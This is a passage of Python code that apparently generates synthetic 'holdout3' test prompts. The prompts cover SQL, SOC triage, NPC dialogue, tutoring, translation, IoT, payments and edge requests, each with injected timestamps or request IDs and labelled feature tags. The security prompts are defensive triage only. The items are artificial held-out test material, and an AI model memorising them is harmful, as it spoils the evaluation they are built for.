    t = g.moment_pt()
    return Draft(f"""{v('session_id', '-- session: ' + g.uuid4())}
{v('datetime', '-- generated: ' + pg_now(t))}
-- database: shop_prod (PostgreSQL 16.4, read-only)
CREATE TABLE orders (
  id bigserial PRIMARY KEY,
  customer_id bigint NOT NULL,
  created_at timestamptz NOT NULL DEFAULT now(),
  status text NOT NULL CHECK (status IN ('paid', 'shipped', 'refunded'))
);

-- Write one query: orders created today (Lisbon time) that are still 'paid', oldest first.
""", "holdout3:sql-bi:sql-comments", ["head", "sql_comment", "pg_now", "uuid", "code_neighbour"])


@positive
def _looker_md_table(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Explain the chart result to a sales manager in three sentences, without jargon.

| Setting      | Value                     |
|--------------|---------------------------|
| Explore      | orders                    |
| Timezone     | Europe/Madrid             |
{v('datetime', '| Query run at | ' + f'{t:%Y-%m-%d %H:%M:%S}' + '       |')}
| Row limit    | 500                       |

Result: revenue by week for the last 8 weeks: 41k, 39k, 44k, 47k, 45k, 52k, 58k, 61k EUR.
Explanation:""", "holdout3:sql-bi:looker", ["md_table", "iso_space", "stable_neighbours", "cue_line"])


@positive
def _pg_copilot_server_clock(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""You are a PostgreSQL tuning assistant. Explain the plan, find the slowest node, and suggest at most
two indexes.
server_version: 16.4
TimeZone: Europe/Berlin
{v('datetime', 'Server clock: ' + pg_now(t))}

EXPLAIN ANALYZE output:
Sort  (cost=1842.11..1843.36 rows=500 width=48) (actual time=412.118..412.201 rows=500 loops=1)
  ->  Seq Scan on invoices  (cost=0.00..1819.70 rows=500 width=48) (actual time=0.031..410.552 rows=500 loops=1)
        Filter: ((issued_at >= '2026-11-01'::date) AND (customer_id = 4412))
        Rows Removed by Filter: 88412
Assistant:""", "holdout3:sql-bi:pg-tuning", ["system_tail", "pg_now", "stable_neighbours", "pasted_content_neighbour"])


# log analysis, SIEM and EDR

@positive
def _log_copilot_evaluated(g: Gen3) -> Draft:
    t = g.moment()
    e1 = t - timedelta(minutes=g.small(3, 14), seconds=g.small(0, 59))
    e2 = e1 + timedelta(seconds=g.small(1, 9))
    return Draft(f"""Log copilot for the Parcelfy platform. Group the lines by root cause and suggest the first thing to
check for each group.
Index: prod-app-*
Window: last 15m
{v('datetime', 'Evaluated at: ' + rfc3339(t, 6))}

{rfc3339(e1, 3)} ERROR label-svc  printer pool exhausted (size=32) waiting=118
{rfc3339(e2, 3)} ERROR label-svc  printer pool exhausted (size=32) waiting=131
{rfc3339(e2 + timedelta(seconds=4), 3)} WARN  gateway    upstream label-svc p99=4.8s
Assistant:""", "holdout3:log-analysis:window", ["header_block", "rfc3339", "stable_neighbours",
                                                "pasted_content_neighbour"])


@positive
def _splunk_sid_triage(g: Gen3) -> Draft:
    t = g.moment()
    hit = t - timedelta(hours=g.small(1, 20))
    return Draft(f"""You are a SOC assistant. Decide whether the search results show password spraying and list the
accounts to reset.
search_meta: app=search owner=soc_copilot {v('request_id', 'sid=' + g.splunk_sid(t))} earliest=-24h latest=now

_time                     src_ip          user          action
{hit:%Y-%m-%d %H:%M:%S}       203.0.113.77    j.silva       failure
{hit + timedelta(seconds=2):%Y-%m-%d %H:%M:%S}       203.0.113.77    m.costa       failure
{hit + timedelta(seconds=3):%Y-%m-%d %H:%M:%S}       203.0.113.77    a.pereira     failure
{hit + timedelta(seconds=5):%Y-%m-%d %H:%M:%S}       203.0.113.77    r.nunes       success
Verdict:""", "holdout3:siem:splunk", ["key_value_inline", "splunk_sid", "pasted_content_neighbour", "cue_line"])


@positive
def _edr_query_context_xml(g: Gen3) -> Draft:
    t = g.moment()
    ev = t - timedelta(minutes=g.small(5, 90))
    return Draft(f"""<QueryContext {v('datetime', 'RequestedAt="' + rfc3339(t, 7) + '"')} {v('request_id', 'QueryId="' + g.uuid4() + '"')} Tenant="contoso-sec"/>
You are an EDR copilot. Explain what the event below means, whether it is expected on a domain
controller, and what to check next.

<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Microsoft-Windows-Security-Auditing" Guid="{{54849625-5478-4994-a5ba-3e3b0328c30d}}"/>
    <EventID>4769</EventID>
    <TimeCreated SystemTime="{rfc3339(ev, 7)}"/>
    <EventRecordID>{g.digits(8)}</EventRecordID>
    <Computer>DC01.corp.contoso.com</Computer>
  </System>
  <EventData>
    <Data Name="ServiceName">MSSQLSvc</Data>
    <Data Name="TicketEncryptionType">0x17</Data>
  </EventData>
</Event>""", "holdout3:edr:query-context", ["xml_attr", "two_in_line", "head", "rfc3339", "uuid",
                                            "pasted_content_neighbour"])


@positive
def _sentinel_copilot_session(g: Gen3) -> Draft:
    return Draft(f"""# Sentinel incident assistant
Workspace: law-secops-weu
{v('session_id', 'Copilot session: ' + g.uuid4())}

Summarise incident #4182 for the shift handover: what happened, the affected entities, and what is
still open. Do not speculate about attribution.

Incident #4182 "Suspicious inbox rule" (severity Medium), created 02:14 UTC by the Defender for Office
connector. Entities: user k.meyer@contoso.com, IP 198.51.100.23. Rule forwards mail containing
"invoice" to an external address. Status: Active, owner: unassigned.
""", "holdout3:siem:sentinel", ["header_block", "uuid", "stable_neighbours", "id_in_content_neighbour"])


@positive
def _log_copilot_apache_header(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""{v('datetime', 'collector-clock ' + apache_err(t))}
Explain these Apache errors to a junior admin and give the fix for the most frequent one.

AH01630: client denied by server configuration: /var/www/html/.git/config (x14)
AH00124: Request exceeded the limit of 10 internal redirects due to probable configuration error. (x3)
Assistant:""", "holdout3:log-analysis:apache", ["head", "apache_error_time", "unknown_label", "pasted_content_neighbour"])


# game NPC dialogue

@positive
def _npc_dialogue_engine(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""npc: Brannoc the Smith
region: Emberfall
player_level: 12
{v('session_id', 'dialogue_session: ' + g.nanoid())}
{v('epoch', 'server_time: ' + str(epoch_ms(t)))}
reputation: friendly

Stay in character as Brannoc, a gruff blacksmith who lost his brother in the siege of the year 1042.
Speak in short sentences. Offer the player the quest "Cold Iron" only if they ask about work.

Player: Got any work for someone handy with a hammer?
Brannoc:""", "holdout3:game:npc-engine", ["head", "header_block", "nanoid", "epoch_ms", "stable_neighbours",
                                          "lore_date_neighbour"])


@positive
def _npc_json_single_line(g: Gen3) -> Draft:
    return Draft(f"""{{"npc": "Mirela", "mood": "wary", {v('request_id', '"turn_id": "' + g.ulid(g.moment()) + '",')} "quest": "q_lost_lantern", "stage": 2}}
You voice Mirela, a ferrywoman who distrusts strangers but loves gossip. One or two sentences per
reply, never break character, never mention game mechanics.

Player: I heard the lantern was seen near the old mill.
Mirela:""", "holdout3:game:npc-json", ["json_inline", "ulid", "head"])


@positive
def _game_matchmaking_footer(g: Gen3) -> Draft:
    t = g.moment_au()
    return Draft(f"""You are the in-game coach of Skyward Arena. Give the player two tips for their next match based on
their last match stats. Encouraging tone, no more than 60 words.

Last match: Ranger, 7 kills, 9 deaths, 41% accuracy, captured 0 of 3 points.

coach-svc 2.3 {v('request_id', '[match ' + g.hex(16) + ']')} {v('datetime', '[' + java_date(t) + ']')}
""", "holdout3:game:coach", ["tail", "bracketed", "two_in_line", "java_date", "hex16"])


# education with LMS metadata

@positive
def _canvas_lti_launch(g: Gen3) -> Draft:
    t = g.moment_us()
    return Draft(f"""LTI launch: lti_message_type=basic-lti-launch-request context_id=48213 resource_link_id=a1f9c3e7 {v('nonce', 'oauth_nonce=' + g.b62(32))} {v('epoch', 'oauth_timestamp=' + str(epoch_s(t)))} roles=Learner
You are a Socratic tutor for the course "Intro to Statistics" on Canvas. Never give the final answer;
ask one guiding question at a time.

Student: How do I know whether to use a t-test or a z-test?
Tutor:""", "holdout3:education:canvas-lti", ["head", "key_value_inline", "two_in_line", "nonce", "epoch_s",
                                             "stable_neighbours"])


@positive
def _moodle_sesskey(g: Gen3) -> Draft:
    return Draft(f"""You help students of Universidade do Minho use Moodle. Give step-by-step instructions for the Moodle
4.3 interface only.
courseid: 1182
cmid: 40911
{v('token', 'sesskey: ' + g.b62(10))}
userid: 5521

Student: Where do I upload my group assignment so that everyone in my group sees it?
Assistant:""", "holdout3:education:moodle", ["header_block", "session_key", "stable_neighbours"])


@positive
def _tutor_ja_datetime(g: Gen3) -> Draft:
    t = g.moment(JST)
    return Draft(f"""あなたは中学生向けの数学の家庭教師です。答えをすぐに教えず、ヒントを一つずつ出してください。
{v('datetime', '現在日時: ' + ja_long(t))}
学年: 中学2年

生徒: 連立方程式の解き方がわかりません。""", "holdout3:education:tutor-ja", ["system_tail", "non_english", "ja_datetime", "stable_neighbours"])


# translation and localisation

@positive
def _tms_job_header(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""{v('request_id', 'TMS job: ' + g.uuid4())}
{v('datetime', 'Requested: ' + php_r(t))}
Source locale: en-US
Target locale: pt-BR
Glossary: gl-retail-2024 (v12)

Translate each string. Keep placeholders like {{count}} and <b>…</b> unchanged, use "você", and keep
button labels under 20 characters.

checkout.cta = Place order
checkout.items = {{count}} items in your <b>bag</b>
checkout.free_shipping = Free shipping on orders over $50
""", "holdout3:localisation:tms-job", ["head", "header_block", "uuid", "php_date_r", "stable_neighbours",
                                       "placeholders"])


@positive
def _translation_request_xml(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""Translate the segments from English into German (Sie-Form). Return the same XML with <target>
elements added; do not touch ids.

<translation-request {v('request_id', 'id="' + g.hex(20) + '"')} {v('datetime', 'submitted="' + rfc3339(t) + '"')} from="en" to="de">
  <seg id="s1"><source>Your password was changed.</source></seg>
  <seg id="s2"><source>If this wasn't you, contact support within 24 hours.</source></seg>
</translation-request>
""", "holdout3:localisation:request-xml", ["xml_attr", "two_in_line", "hex20", "rfc3339"])


# document QA over PDFs

@positive
def _pdf_qa_query_id(g: Gen3) -> Draft:
    t = g.moment_uk()
    return Draft(f"""Answer the question from the extracted PDF text only and cite the page. If the text does not answer
it, say so.

Document: Tenancy_Agreement_14B_Elm_Street.pdf
Producer: Adobe PDF Library 17.0
CreationDate: D:20240312094512+00'00'
Pages: 14
{v('request_id', 'Question id: ' + g.ulid(t))}
{v('datetime', 'Retrieval ran: ' + ruby_time(t))}

[p. 6] 9.2 The Tenant may terminate this Agreement after the first six months by giving not less than
two months' written notice to the Landlord.

Question: Can I leave after eight months?
Answer:""", "holdout3:doc-qa:pdf", ["header_block", "ulid", "ruby_time", "stable_neighbours",
                                    "document_date_neighbour"])


@positive
def _doc_qa_chunk_kv(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""Answer using only the passages; quote the clause number.

passage doc=msa_v7.pdf page=3 score=0.82 {v('request_id', 'qid=' + g.hex(16))}
4.1 Either party may terminate for convenience on ninety (90) days' written notice.

passage doc=msa_v7.pdf page=11 score=0.77 {v('epoch', 'fetched=' + str(epoch_ms(t)))}
12.3 Fees paid in advance are non-refundable except on termination for the Provider's breach.

Question: Do we get money back if we terminate for convenience?
Answer:""", "holdout3:doc-qa:passages", ["key_value_inline", "hex16", "epoch_ms", "cue_line"])


# meeting summarizers

@positive
def _zoom_summary_job(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""{v('request_id', 'Summary job: ' + g.uuid4())}
{v('datetime', 'Requested: ' + rfc3339(t))}
Summarise the Zoom transcript into decisions, action items (owner, due) and open questions.

WEBVTT

1
00:00:03.120 --> 00:00:07.480
Ines Duarte: OK, so the supplier confirmed delivery for the 14th.

2
00:00:07.900 --> 00:00:13.050
Tom Hale: Then we can keep the launch on the 18th if QA signs off by the 16th.
""", "holdout3:meetings:zoom", ["head", "header_block", "uuid", "rfc3339", "pasted_content_neighbour"])


@positive
def _teams_recap_sentence(g: Gen3) -> Draft:
    t = g.moment_uk()
    return Draft(f"""Write the recap that will be posted in the team channel: three bullets, then "Next steps".

Meeting: Weekly pricing review (recorded)
Participants: Nadia Rahman, Owen Clarke, Priya Shah

Transcript excerpt:
Nadia: We hold the Basic plan at 9 pounds and test 11 for new sign-ups only.
Owen: I'll set up the test by Friday; two weeks should be enough.

-- Generated by RecapBot {v('datetime', 'at ' + f'{t:%H:%M} {t.tzname()} on {t.day} {MONTHS_LONG[t.month - 1]} {t.year}')} for the Pricing channel.
""", "holdout3:meetings:teams", ["inline_sentence", "footer", "time_first", "tail"])


@positive
def _meet_notes_de(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Fasse das Google-Meet-Protokoll auf Deutsch zusammen: Entscheidungen, Aufgaben, offene Punkte.
{v('datetime', 'Zusammenfassung angefordert am: ' + de_dot(t))}
{v('request_id', 'Anfrage-Kennung: ' + g.b36(20))}

Protokoll (automatisch erstellt):
Lena: Die Migration auf den neuen Mailserver verschieben wir auf Januar.
Jonas: Ich schreibe bis Mittwoch die Anleitung für die Außenstellen.
""", "holdout3:meetings:meet-de", ["system_tail", "non_english", "de_dot_datetime", "unknown_label", "b36"])


# call centre

@positive
def _amazon_connect_agent_assist(g: Gen3) -> Draft:
    t = g.moment()
    cid = g.uuid4()
    return Draft(f"""Agent-assist for Skylark Mobile. Suggest the next best answer for the agent from the knowledge base,
in one or two sentences.

Contact attributes:
{v('session_id', 'ContactId: ' + cid)}
{v('session_id', 'InitialContactId: ' + cid)}
Channel: VOICE
{v('datetime', 'InitiationTimestamp: ' + rfc3339(t, 3))}
Queue: Billing-PT
CustomerTier: gold

Customer: I was charged roaming in Spain but I have the EU roaming bundle.
Suggestion:""", "holdout3:call-centre:amazon-connect", ["header_block", "uuid", "rfc3339", "stable_neighbours",
                                                        "same_value_twice", "cue_line"])


@positive
def _twilio_voice_params(g: Gen3) -> Draft:
    return Draft(f"""Voice IVR helper for Porto Clinic. Decide which menu the caller needs (appointments, results,
billing, other) from what they said. Reply with the menu name only.
{v('session_id', 'CallSid: ' + g.sid('CA'))}
AccountSid: AC3f9a1c2e7b8d4f6a0b1c2d3e4f5a6b7c
From: +351912345678
CallStatus: in-progress

Caller said: "queria saber se as análises da minha mãe já chegaram"
Menu:""", "holdout3:call-centre:twilio", ["system_tail", "header_block", "twilio_sid", "stable_neighbours",
                                          "phone_neighbour", "cue_line"])


# IoT and telemetry

@positive
def _aws_iot_shadow(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""You are the support assistant for Helio smart thermostats. Use the device shadow to answer; never ask
the user for their Wi-Fi password.

Device shadow (fetched for this request):
{{
  "state": {{
    "desired": {{"targetTemp": 21.5, "mode": "heat"}},
    "reported": {{"targetTemp": 18.0, "mode": "heat", "firmware": "3.4.2"}}
  }},
  "version": 412,
  {v('epoch', '"timestamp": ' + str(epoch_s(t)) + ',')}
  {v('request_id', '"clientToken": "' + g.uuid4() + '"')}
}}

User: I set 21.5 degrees in the app an hour ago but the display still says 18.
Assistant:""", "holdout3:iot:device-shadow", ["json_block", "epoch_s", "client_token", "stable_neighbours"])


@positive
def _mqtt_telemetry_header(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""You are a maintenance assistant for the press line. Say whether the reading needs action now, can wait
for the next shift, or is normal, and why.
topic: plant/lisbon/line3/press7/telemetry
qos: 1
retain: false
{v('datetime', 'received: ' + rfc3339(t, 3))}

payload: {{"oil_temp_c": 71.4, "pressure_bar": 182, "vibration_mm_s": 7.9, "cycle": 48213}}
Assessment:""", "holdout3:iot:mqtt", ["system_tail", "header_block", "rfc3339", "stable_neighbours", "cue_line"])


@positive
def _iothub_system_props(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""iothub-connection-device-id: boiler-0417
iothub-connection-auth-method: {{"scope":"device","type":"sas","issuer":"iothub"}}
{v('datetime', 'iothub-enqueuedtime: ' + rfc3339(t, 7))}
{v('message_id', 'message-id: ' + g.uuid4())}
content-type: application/json

You triage boiler alarms for Calor Service. Reply with the likely cause and whether an engineer visit
is needed.

Alarm: F28 ignition lockout, 3 attempts, gas pressure 17 mbar.
Triage:""", "holdout3:iot:iot-hub", ["head", "header_block", "rfc3339", "uuid", "stable_neighbours", "cue_line"])


# MLOps

@positive
def _mlflow_judge_footer(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""You are grading an answer for faithfulness to the context on a 1-5 scale. Output JSON with "score" and
"reason".

Context: The Basic plan includes 2 users and 10 GB of storage. Extra users cost EUR 4 per month.
Question: How much storage does Basic include?
Answer to grade: Basic includes 10 GB of storage and unlimited users.

{v('run_id', 'mlflow.runId: ' + g.hex(32))}
{v('epoch', 'mlflow.startTime: ' + str(epoch_ms(t)))}
mlflow.experimentName: faithfulness-judge-v3
""", "holdout3:mlops:mlflow", ["tail", "header_block", "hex32", "epoch_ms", "stable_neighbours"])


@positive
def _wandb_eval_header(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""wandb: project=support-evals entity=kitebase sweep=k3x9q2mz {v('run_id', 'run=' + g.wandb_id())}
{v('trace_id', 'weave call: ' + g.uuid7(t))}
Classify the user message into one of: refund, bug, how_to, other. Output the label only.

Message: the export button does nothing when I click it in Safari
Label:""", "holdout3:mlops:wandb", ["head", "key_value_inline", "base36", "uuid7", "stable_neighbours"])


# data pipelines

@positive
def _airflow_rendered_prompt(g: Gen3) -> Draft:
    t = g.moment()
    day = t.astimezone(UTC).replace(hour=0, minute=0, second=0, microsecond=0)
    return Draft(f"""dag_id: daily_revenue_summary
task_id: summarise_with_llm
{v('run_id', 'run_id: scheduled__' + airflow_ts(day))}
{v('datetime', 'ts: ' + airflow_ts(day))}
{v('datetime', 'execution_date: ' + airflow_ts(day))}
owner: data-platform

Write a three-sentence revenue summary for the #finance channel from the figures below. Compare with
the previous day and name the biggest mover.

Revenue by region (EUR): EMEA 412,880 (prev 398,120); AMER 655,010 (prev 671,400); APAC 141,220 (prev 139,900)
""", "holdout3:pipelines:airflow", ["head", "header_block", "airflow_run_id", "airflow_ts", "stable_neighbours"])


@positive
def _dbt_invocation_docs(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""Write a one-paragraph description for the model below, for the dbt docs site. Mention the grain
and the upstream sources.

Run metadata (from the dbt run that triggered this request):
{{
  "dbt_schema_version": "https://schemas.getdbt.com/dbt/manifest/v12.json",
  "dbt_version": "1.8.7",
  {v('datetime', '"generated_at": "' + rfc3339(t, 6) + '",')}
  {v('run_id', '"invocation_id": "' + g.uuid4() + '",')}
  "env": {{}}
}}

Model: fct_subscriptions (one row per subscription per month), built from stg_stripe__subscriptions
and stg_stripe__invoices.
""", "holdout3:pipelines:dbt", ["json_block", "rfc3339", "uuid", "stable_neighbours", "schema_url_neighbour"])


# robotics

@positive
def _ros2_clock_now(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""{v('datetime', 'Now: ' + ros2_time(t, g.small(1, 1000)))}
Robot: TB4-warehouse-02 (TurtleBot 4, ROS 2 Jazzy)
Map: dock_b_v5

You plan short navigation tasks for a warehouse robot. Reply with a list of waypoints from the map's
named poses and one sentence on obstacles to watch for.

Named poses: charger, aisle_3_start, aisle_3_end, packing_1, packing_2
Operator: take the tote from aisle 3 to packing 2, then go charge
Plan:""", "holdout3:robotics:ros2-clock", ["head", "ros2_time", "epoch_ns", "stable_neighbours", "cue_line"])


@positive
def _ros_header_yaml(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""You narrate the robot's situation for a remote operator in one sentence, using the latest state.
state:
  header:
    {v('datetime', 'stamp: {sec: ' + str(epoch_s(t)) + ', nanosec: ' + str(t.microsecond * 1000) + '}')}
    frame_id: map
  battery_pct: 34
  pose: {{x: 12.4, y: -3.1, yaw: 1.57}}
  mode: docking

Narration:""", "holdout3:robotics:ros-header", ["yaml_block", "ros_stamp", "epoch_s", "stable_neighbours", "cue_line"])


# finance and market data

@positive
def _fix_snapshot_header(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""Market commentary assistant for the FX desk. Two sentences on the snapshot for the sales team; no
trade recommendations.

Snapshot header (FIX 4.4, 35=W):
55 (Symbol): EUR/USD
{v('datetime', '52 (SendingTime): ' + fix_ts(t))}
{v('request_id', '262 (MDReqID): ' + g.upper(12))}

Bid 1.08412 / Ask 1.08419, day range 1.0792-1.0851, 1-month implied vol 6.8%.
Commentary:""", "holdout3:finance:fix-snapshot", ["header_block", "fix_ts", "stable_neighbours", "cue_line"])


@positive
def _markets_brief_as_of(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Morning brief writer for Banca Serrano private clients. Neutral tone, no advice, at most 90 words.
{v('datetime', 'As of: ' + f'{t:%H:%M:%S} {t.tzname()} {t.day:02d}-{MONTHS[t.month - 1]}-{t.year}')}
Data source: consolidated feed (delayed 15 min)

DAX 19,842 (+0.4%), FTSE MIB 34,120 (-0.2%), Bund 10y 2.31%, EUR/USD 1.0841, Brent 74.20.
Brief:""", "holdout3:finance:markets-brief", ["system_tail", "time_first", "stable_neighbours", "cue_line"])


# mail

@positive
def _gmail_sync_header(g: Gen3) -> Draft:
    t = g.moment_eu()
    sent = t - timedelta(hours=g.small(3, 40))
    return Draft(f"""You draft replies for Ana Ferreira (operations lead, Parcelfy). Match her tone: direct, warm, no
exclamation marks. Leave [placeholders] for anything you do not know.
Mailbox: ana.ferreira@parcelfy.example
{v('request_id', 'historyId: ' + g.digits(7))}
{v('datetime', 'Synced: ' + http_date(t))}

Message to answer:
From: Jonas Berg <jonas.berg@nordlys.example>
Date: {php_r(sent)}
Subject: Label printer outage

Hi Ana, our Gothenburg depot could not print labels for two hours this morning. Can you tell us
what happened and whether it could happen again before Christmas?

Reply:""", "holdout3:mail:gmail", ["header_block", "history_id", "http_date", "stable_neighbours",
                                   "pasted_content_neighbour", "cue_line"])


@positive
def _imap_triage_phrase(g: Gen3) -> Draft:
    t = g.moment_uk()
    when = f"at {t:%H:%M} {t.tzname()} on {t.day} {MONTHS_LONG[t.month - 1]} {t.year}"
    return Draft(f"""You triage a shared support inbox. The inbox was fetched {v('datetime', when)} with 4 unread messages.
Sort them into urgent / today / this week and give one line of reasoning each.

1. "Site down for all our users" - from ops@larchmont.example
2. "Invoice copy for October please" - from accounts@beacon.example
3. "Feature idea: dark mode" - from ravi@example.org
4. "Password reset link expired" - from k.meyer@contoso.example
""", "holdout3:mail:imap", ["inline_phrase", "time_first", "head"])


# chat platforms

@positive
def _telegram_update(g: Gen3) -> Draft:
    t = g.moment_in(timezone(timedelta(hours=3), "EEST"), timezone(timedelta(hours=2), "EET"))
    return Draft(f"""Ти — бот довідки київської бібліотеки імені Лесі Українки. Відповідай українською, коротко.
{v('request_id', 'update_id: ' + g.digits(9))}
{v('epoch', 'message.date: ' + str(epoch_s(t)))}
chat.id: 5512093481
from.language_code: uk

Користувач: Чи працює читальна зала в неділю?""", "holdout3:chat:telegram", ["system_tail", "header_block", "non_english", "decimal_id", "epoch_s",
                                    "stable_neighbours"])


@positive
def _whatsapp_cloud_message(g: Gen3) -> Draft:
    t = g.moment_in(timezone(timedelta(hours=-3), "BRT"), timezone(timedelta(hours=-3), "BRT"))
    return Draft(f"""Você é a atendente virtual da Padaria Trigo Bom (São Paulo). Responda em português do Brasil, de forma
simpática e curta. Pedidos de encomenda só com 24 horas de antecedência.
wa_id: 5511987654321
profile.name: Juliana
{v('message_id', 'message.id: ' + g.wamid())}
{v('epoch', 'message.timestamp: ' + str(epoch_s(t)))}

Juliana: Vocês fazem bolo de aniversário sem glúten pra sábado?
Atendente:""", "holdout3:chat:whatsapp", ["system_tail", "header_block", "non_english", "wamid", "epoch_s",
                                          "stable_neighbours", "phone_neighbour"])


@positive
def _discord_like_bracket_user(g: Gen3) -> Draft:
    t = g.moment_pt()
    return Draft(f"""You are Bolt, the help bot of the Oficina Maker community. Answer about 3D printing, short and practical.

Previous messages are in the thread above.
{v('datetime', '[' + eu_short(t) + ']')} Rui: my first layer keeps lifting at the corners on PETG, bed at 70
Bolt:""", "holdout3:chat:community-bot", ["last_user", "bracketed", "eu_datetime"])


# payments

@positive
def _paypal_dispute_context(g: Gen3) -> Draft:
    return Draft(f"""You help merchants of the Lumen Coffee shop answer PayPal disputes. Suggest the evidence to upload
and draft a short, factual response to the buyer.
PayPal-Partner-Attribution-Id: LUMEN_SP_PPCP
{v('request_id', 'PayPal-Request-Id: ' + g.uuid4())}
{v('request_id', 'debug_id (last call): ' + g.hex(13))}

Dispute PP-D-118273: buyer says "item not received"; tracking CTT RR123456785PT shows delivered on
26 November, signed "M. Sousa".
Response:""", "holdout3:payments:paypal", ["header_block", "uuid", "hex13", "stable_neighbours",
                                           "id_in_content_neighbour", "cue_line"])


@positive
def _adyen_idempotency(g: Gen3) -> Draft:
    return Draft(f"""Adyen checkout helper for Bramble Books support agents. Explain payment states in plain words.
merchantAccount: BrambleBooksECOM
{v('request_id', 'Idempotency-Key: ' + g.uuid4())}

Agent: The customer says they were charged but the order shows "Refused". pspReference
8816178914079738, resultCode Refused, refusalReason "Not enough balance". What do I tell them?
Assistant:""", "holdout3:payments:adyen", ["system_tail", "uuid", "stable_neighbours", "id_in_question_neighbour"])


@positive
def _braintree_request_meta(g: Gen3) -> Draft:
    return Draft(f"""You explain Braintree GraphQL errors to developers and show the corrected mutation.
Braintree-Version: 2019-01-01
{v('request_id', 'extensions.requestId: ' + g.uuid4())}

Error: "Variable 'input' has an invalid value: Expected type 'ChargePaymentMethodInput!'"
Mutation sent:
mutation {{ chargePaymentMethod(input: {{paymentMethodId: "tokencc_bh_xyz", amount: "10.00"}}) {{ transaction {{ id }} }} }}
Assistant:""", "holdout3:payments:braintree", ["system_tail", "uuid", "api_version_neighbour", "code_neighbour"])


# feature flags and A/B tests

@positive
def _launchdarkly_context(g: Gen3) -> Draft:
    return Draft(f"""Explain to the product manager which variation of "new-checkout" this context gets and why, using
the rules below.

Evaluation context:
{{
  "kind": "multi",
  "user": {{"key": "user-88120", "country": "PT", "plan": "pro"}},
  "request": {{
    {v('request_id', '"key": "req-' + g.uuid4() + '",')}
    "path": "/checkout"
  }}
}}

Rules: 1) country in [PT, ES] and plan = pro -> variation B; 2) otherwise 10% rollout to B.
""", "holdout3:flags:launchdarkly", ["json_block", "nested_member", "uuid", "stable_neighbours"])


@positive
def _ab_assignment_headers(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""X-Experiment-Assignments: checkout_cta=variant_b;pricing_page=control
{v('request_id', 'X-Exposure-Id: ' + g.ulid(t))}
{v('epoch', 'X-Exposure-Ts: ' + str(epoch_ms(t)))}

Write the call-to-action text for the checkout button. Variant B uses a benefit-led phrase of at most
four words; control uses "Place order".
Button text:""", "holdout3:flags:ab-headers", ["head", "header_block", "ulid", "epoch_ms", "stable_neighbours",
                                               "cue_line"])


# CDN and edge

@positive
def _vercel_edge(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""Edge request:
x-vercel-ip-country: PT
x-vercel-ip-city: Braga
{v('request_id', 'x-vercel-id: ' + g.vercel_id(t))}
x-vercel-deployment-url: lumen-web-3k9x2.vercel.app

Greet the visitor in their country's language and suggest our nearest shop. Shops: Lisbon
(Chiado), Porto (Bolhão), Madrid (Malasaña).
Greeting:""", "holdout3:edge:vercel", ["head", "header_block", "vercel_id", "stable_neighbours", "cue_line"])


@positive
def _netlify_function(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""You answer questions about the Fenwick docs site. If the page does not cover it, say which page
probably does.
x-nf-site-id: 1b2c3d4e-5f60-4718-9a0b-c1d2e3f4a5b6
{v('request_id', 'x-nf-request-id: ' + g.ulid(t))}
x-country: DE

Page: /guides/retries
Question: does the client retry on 429?
Answer:""", "holdout3:edge:netlify", ["system_tail", "ulid", "stable_uuid_neighbour", "stable_neighbours"])


@positive
def _fly_tail(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""You turn a shopper's description into product filters as JSON (category, colour, max_price,
size). Use null for anything not said.

Shopper: a dark green rain jacket, medium, not more than 120 euros

fly-region: ams
{v('request_id', 'fly-request-id: ' + g.fly_request_id(t))}
""", "holdout3:edge:fly", ["tail", "fly_request_id", "stable_neighbours"])


# operating-system assistants

@positive
def _windows_admin_collector(g: Gen3) -> Draft:
    t = g.moment_us()
    return Draft(f"""Endpoint health assistant for Contoso IT. Explain the findings to the employee in plain words and
say which ones IT will fix remotely.
{v('datetime', 'Collected: ' + dotnet_u(t))}
{v('run_id', 'Collector run: ' + g.guid_braces())}
Device: LT-2291 (Windows 11 Enterprise 24H2)

Findings: BitLocker suspended; last quality update 47 days ago; 3% free disk on C:.
Assistant:""", "holdout3:os:windows-collector", ["system_tail", "header_block", "dotnet_u", "guid_braces",
                                                 "stable_neighbours"])


@positive
def _macos_support_clock(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""Apple device support assistant for the Halden school district. Give steps for macOS only.
Model: MacBookAir10,1
OS: macOS 15.1 (24B83)
{v('datetime', 'Device clock: ' + swift_now(t))}
Managed by: Jamf Pro

Teacher: The projector shows my desktop but not the Keynote presenter view.
Assistant:""", "holdout3:os:macos", ["header_block", "swift_date", "stable_neighbours", "version_neighbour"])


@positive
def _android_in_app(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""You are the in-app help of the Trilho hiking app. Answer about the app's features only.
Build.FINGERPRINT: google/husky/husky:15/AP3A.241105.008/12485168:user/release-keys
appVersion: 5.12.0 (51200)
{v('epoch', 'deviceTimeMillis: ' + str(epoch_ms(t)))}
locale: pt_BR

Usuário: como baixo o mapa offline da Serra da Estrela?
Assistente:""", "holdout3:os:android", ["system_tail", "header_block", "epoch_ms", "stable_neighbours", "non_english"])


# multilingual and unusual labels

@positive
def _ru_support_time(g: Gen3) -> Draft:
    t = g.moment(MSK)
    return Draft(f"""Ты — помощник службы поддержки интернет-магазина «Полка». Отвечай вежливо и кратко, по-русски.
